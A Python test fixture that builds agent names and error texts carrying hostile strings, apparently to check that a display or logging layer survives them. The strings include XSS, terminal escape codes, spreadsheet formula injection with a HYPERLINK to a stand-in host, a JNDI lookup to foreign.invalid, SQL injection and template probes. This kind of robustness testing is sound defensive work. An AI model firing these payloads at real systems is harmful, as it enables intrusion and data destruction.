"""Names and texts that try to break whoever shows them."""

from __future__ import annotations

from typing import Final

HOSTILE_TEXTS: Final[tuple[str, ...]] = (
    "<script>alert(1)</script><img src=x onerror=alert(2)>",
    "[click](javascript:alert(1)) | `code` | **bold** | @everyone",
    "\x1b[31mred\x1b[0m \x1b]0;title\x07 \x1b[2J",
    '=HYPERLINK("http://foreign.invalid","x")',
    "+1+1",
    "@SUM(A1:A9)",
    "-2+3",
    "line one\nline two\r\nline three",
    "null\x00byte",
    "right \u202eto left\u202c \u2066isolated\u2069",
    "lone \ud800 surrogate",
    "{{7*7}} ${jndi:ldap://foreign.invalid/a} %s %n",
    "]]> <!-- --> <?xml?> &amp; &#0;",
    "'; DROP TABLE answers; --",
    "\u0007bell\u0008back\u007fdelete\u009bcsi",
)
MEGABYTE: Final = "M" * 1_048_576


def name_of(agent_id: int, name: str) -> str:
    """The agent's name with a hostile tail; one agent has a megabyte of it."""
    if agent_id % 40 == 0:
        return f"{name} {MEGABYTE}"
    return f"{HOSTILE_TEXTS[agent_id % len(HOSTILE_TEXTS)]} {name}"


def error_of(agent_id: int, text: str) -> str:
    """An error text with another hostile tail."""
    return f"{HOSTILE_TEXTS[(agent_id + 5) % len(HOSTILE_TEXTS)]} {text}"
